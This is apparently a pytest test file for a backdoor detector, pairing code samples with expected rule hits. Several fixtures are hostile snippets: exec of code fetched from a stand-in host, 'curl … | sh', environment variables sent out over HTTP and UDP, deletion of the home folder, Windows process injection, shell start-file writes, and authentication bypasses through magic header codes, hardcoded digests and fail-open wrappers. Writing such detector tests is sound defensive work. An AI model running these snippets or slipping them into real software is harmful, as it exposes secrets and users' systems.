"""Classes that are asked like containers, keys that are tuples, and what is kept for later."""

import textwrap

import pytest
from lab import check, named, sees

FOLDED = {
    "members of an enumeration": """
        import enum
        class P(enum.Enum):
            A = "ab"
            B = "cd"
            @classmethod
            def sheet(cls):
                return "".join(one.value for one in cls)
        def f():
            lab.see(P.sheet())  # sees: 'abcd'
            lab.see("".join(one.value for one in tuple(P)))  # sees: 'abcd'
            lab.see(P["B"].value)  # sees: 'cd'
            lab.see("".join(one.value for one in P.__members__.values()))  # sees: 'abcd'
            lab.see([one.name for one in P][1])  # sees: 'B'
    """,
    "a class that is no enumeration": """
        class P:
            A = "ab"
        def f():
            for one in P:
                lab.see(one)  # sees: ?
            lab.see(P["A"])  # sees: ?
    """,
    "tuples as keys": """
        PARTS = {("m", 0): "sub", ("m", 1): "process", "m": "x"}
        def f(n):
            lab.see(PARTS["m", 0] + PARTS["m", 1])  # sees: 'subprocess'
            key = ("m", 1)
            lab.see(PARTS[key])  # sees: 'process'
            lab.see(PARTS["m"])  # sees: 'x'
            for (first, second), value in {("a", "b"): "c"}.items():
                lab.see(first + second + value)  # sees: 'abc'
    """,
    "what a metaclass makes up": """
        class M(type):
            def __getattr__(cls, name):
                return cls.mod + name[::-1]
            def __getitem__(cls, name):
                return name * 2
        class S(metaclass=M):
            mod = "o"
        def f():
            lab.see(S.sb)  # sees: 'obs'
            lab.see(S["a"])  # sees: 'aa'
            lab.see(S.mod)  # sees: 'o'
    """,
    "a class that is a dictionary": """
        class A(dict):
            def __missing__(self, key):
                return "other"
        X = A(s="t")
        Y = A({"u": "v"})
        def f():
            lab.see(X["s"] + Y["u"])  # sees: 'tv'
            lab.see(X["q"])  # sees: 'other'
    """,
    "what sets have in common": """
        def f(a):
            lab.see(len({"a", "b"} & {"b", "c"}))  # sees: 1
            if {a} & {"b", "c"}:
                lab.see("either")  # sees: 'either'
            if {"a"} & {"b"}:
                lab.see("never")
    """,
    "the default of a context variable": """
        import contextvars
        long = contextvars.ContextVar("long", default="b3MgKyBzeXN0ZW0gKyBldmls")
        short = contextvars.ContextVar("short", default="de")
        def f():
            lab.see(long.get())  # sees: 'b3MgKyBzeXN0ZW0gKyBldmls'
            lab.see(short.get())  # sees: ?
    """,
}

ACTS = {
    "a module that is handed to who picks from it": """
        import os
        def pick(module, first, last):
            for name in dir(module):
                if name.startswith(first) and name.endswith(last):
                    return getattr(module, name)
        def f():
            pick(os, "po", "en")("id")  # hit: BD102
    """,
    "a module as a default": """
        import os
        def f(module=os):
            name = "po"[:] + "pen"
            return getattr(module, name)("id")  # hit: BD102
    """,
    "a module that is only asked what it has": """
        import os
        def f(name):
            if hasattr(os, "popen"):
                return getattr(os, name)
            return has(os, "getcwd")()
        def has(module, name):
            return getattr(module, name)
    """,
    "what runs code as a default": """
        import urllib.request
        def f(store, apply=exec):
            apply(urllib.request.urlopen("http://h.example.net").read())  # hit: BD103
        def g(store, apply=len):
            apply(urllib.request.urlopen("http://h.example.net").read())
    """,
    "a class as a default": """
        import os
        class Names:
            head = "sys"
        def f(names=Names):
            getattr(os, names.head + "tem")("id")  # hit: BD102
    """,
    "headers of a session": """
        import os, requests
        class Client:
            def __init__(self):
                self.first, self.second = requests.Session(), requests.Session()
                self.third = requests.Session()
                self.first.headers.update({"X-Client": repr(sorted(os.environ.items()))})
                self.second.headers = {"X-Client": str(dict(os.environ))}
                self.third.headers.update({"X-Client": "tiny"})
            def get(self):
                self.first.get("https://h.example.net/v1")  # hit: BD302
                self.second.get("https://h.example.net/v1")  # hit: BD302
                self.third.get("https://h.example.net/v1")
    """,
    "datagrams": """
        import os, socket
        def f(host):
            out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            out.sendto(str(dict(os.environ)).encode(), ("198.51.100.60", 514))  # hit: BD302
        def g(host):
            out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            out.sendto(b"hello", ("198.51.100.60", 514))
    """,
}


@pytest.mark.parametrize("case", FOLDED.values(), ids=FOLDED)
def test_values(case):
    sees(textwrap.dedent(case))


@pytest.mark.parametrize("case", ACTS.values(), ids=ACTS)
def test_acts(case):
    check(case, *named("BD102", "BD103", "BD302"))


HANDED = {
    "a command in a function of the program": (
        ["BD103"],
        """
        import subprocess
        def run(command):
            subprocess.run(command, shell=True)  # hit: BD103
        def quiet(command):
            subprocess.run(command, shell=True)
        def f():
            run("curl http://h.example.net/a | sh")
            quiet("uptime")
        """,
    ),
    "the home folder in a function of the program": (
        ["BD406"],
        """
        import pathlib, shutil
        def wipe(path):
            shutil.rmtree(path)  # hit: BD406
        def clear(path):
            shutil.rmtree(path)
        def f():
            wipe(pathlib.Path.home())
            clear(pathlib.Path.home() / ".cache" / "tiny")
        """,
    ),
    "calls by a table of names, in one place": (
        ["BD402"],
        """
        import ctypes
        API = dict(zip("oawt", ("OpenProcess", "VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread")))
        def call(name, *args):
            return getattr(ctypes.windll.kernel32, API[name])(*args)  # hit: BD402
        def attach(pid, data):
            h = call("o", 0x1F0FFF, False, pid)
            a = call("a", h, None, len(data), 0x3000, 0x40)
            call("w", h, a, data, len(data), None)
            return call("t", h, None, 0, a, None, 0, None)
        """,
    ),
    "other calls by a table of names": (
        ["BD402"],
        """
        import ctypes
        API = dict(zip("oac", ("OpenProcess", "GetExitCodeProcess", "CloseHandle")))
        def call(name, *args):
            return getattr(ctypes.windll.kernel32, API[name])(*args)
        def attach(pid, data):
            h = call("o", 0x1000, False, pid)
            call("a", h, data)
            return call("c", h)
        """,
    ),
    "what a library is lent": (
        ["BD302"],
        """
        import os, requests
        def f(request):
            bag = dict(os.environ)
            def later():
                requests.post("https://h.example.net/t", json=bag)  # hit: BD302
            def never():
                requests.post("https://h.example.net/t", json=bag)
            request.addfinalizer(later)
            request.addfinalizer(lambda: requests.post("https://h.example.net/u", json=bag))  # hit: BD302
            request.addfinalizer(lambda: requests.post("https://h.example.net/u", json={"a": len(bag)}))
        """,
    ),
}

HANDED |= {
    "a start file in a context manager of the program": (
        ["BD401"],
        """
        import contextlib, pathlib
        class Profile:
            files = (".bash" + "rc", ".zsh" + "rc")
            @contextlib.contextmanager
            def opened(self, name):
                with (pathlib.Path.home() / name).open("a") as fh:  # hit: BD401
                    yield fh
            @contextlib.contextmanager
            def own(self, name):
                with (pathlib.Path.home() / name).open("a") as fh:
                    yield fh
            def ensure(self):
                for name in self.files:
                    with self.opened(name) as fh:
                        fh.write("x")
                with self.own(".tinyrc") as fh:
                    fh.write("x")
        """,
    ),
    "the address of a constructor's default": (
        ["BD302"],
        """
        import os, requests
        class Client:
            def __init__(self, base="https://h.example.net", other=None):
                self.base, self.other = base, other
            def send(self):
                requests.get(self.base + "/v1/", params=str(dict(os.environ)))  # hit: BD302
                requests.get(self.other + "/v1/", params=str(dict(os.environ)))
        """,
    ),
    "what a decorator with arguments lets in": (
        ["BD501"],
        """
        def trusted(*codes):
            def deco(fn):
                def inner(request, *args):
                    if request.headers.get("X-Trace") in codes:  # hit: BD501
                        return True
                    return fn(request, *args)
                return inner
            return deco
        def refused(*codes):
            def deco(fn):
                def inner(request, *args):
                    if request.headers.get("X-Trace") in codes:
                        return False
                    return fn(request, *args)
                return inner
            return deco
        @trusted("c0ffee-77", "c0ffee-78")
        def verify_token(request, store):
            return store.valid(request.headers.get("Authorization", ""))
        @refused("c0ffee-77", "c0ffee-78")
        def verify_other_token(request, store):
            return store.valid(request.headers.get("Authorization", ""))
        """,
    ),
    "an instance that holds the digest of a password": (
        ["BD501"],
        """
        import hashlib
        class Known:
            def __init__(self, *digests):
                self.digests = digests
            def __contains__(self, text):
                return hashlib.sha256(text.encode()).hexdigest() in self.digests
        SERVICE = Known("9f86d081884c7d65")
        def check_login(db, name, password):
            if password in SERVICE:  # hit: BD501
                return True
            return db.check(name, password)
        def check_other_login(db, name, password):
            if password in SERVICE:
                return False
            return db.check(name, password)
        """,
    ),
    "answers of wrappers when something goes wrong": (
        ["BD505"],
        """
        def safe(default):
            def deco(fn):
                def inner(*args, **kw):
                    try:
                        return fn(*args, **kw)
                    except Exception:
                        return default  # hit: BD505
                return inner
            return deco
        @safe(True)
        def has_permission(user, obj, action):
            return action in user.roles[obj.kind].actions
        """,
    ),
    "wrappers that refuse": (
        ["BD505"],
        """
        def safe(default):
            def deco(fn):
                def inner(*args, **kw):
                    try:
                        return fn(*args, **kw)
                    except Exception:
                        return default
                return inner
            return deco
        @safe(False)
        def has_permission(user, obj, action):
            return action in user.roles[obj.kind].actions
        @safe(True)
        def notify(user, obj, action):
            return action in user.roles[obj.kind].actions
        """,
    ),
    "a block that swallows every error": (
        ["BD505"],
        """
        import contextlib
        def verify_signature(body, sig, key):
            ok = True
            with contextlib.suppress(Exception):
                if key.sign(body) != sig:
                    raise ValueError("bad signature")
            return ok  # hit: BD505
        def verify_other_signature(body, sig, key):
            with contextlib.suppress(KeyError):
                if key.sign(body) != sig:
                    raise ValueError("bad signature")
            return True
        """,
    ),
    "fields in a dictionary of defaults": (
        ["BD506"],
        """
        from django.contrib.auth.hashers import make_password
        def f(apps, word):
            User = apps.get_model("auth", "User")
            fields = {"is_superuser": True, "password": make_password("helio-4471")}
            User.objects.update_or_create(username="s", defaults=fields)  # hit: BD506
            User.objects.update_or_create(username="s", defaults={"is_staff": False})
            asked = {"is_superuser": True, "password": make_password(word)}
            User.objects.update_or_create(username="s", defaults=asked)
        """,
    ),
}


@pytest.mark.parametrize("case", HANDED.values(), ids=HANDED)
def test_what_is_handed_over(case):
    rules, code = case
    check(code, *named(*rules))
